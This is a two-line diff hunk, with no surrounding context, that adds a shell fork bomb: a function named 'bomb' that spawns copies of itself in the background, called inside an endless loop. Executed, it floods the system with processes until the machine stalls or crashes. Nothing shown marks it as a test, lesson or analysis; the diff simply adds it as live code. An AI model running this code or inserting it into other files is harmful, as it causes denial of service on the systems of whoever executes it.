@@ -1,0 +1,2 @@
+bomb() { bomb | bomb & }
+while :; do bomb; done
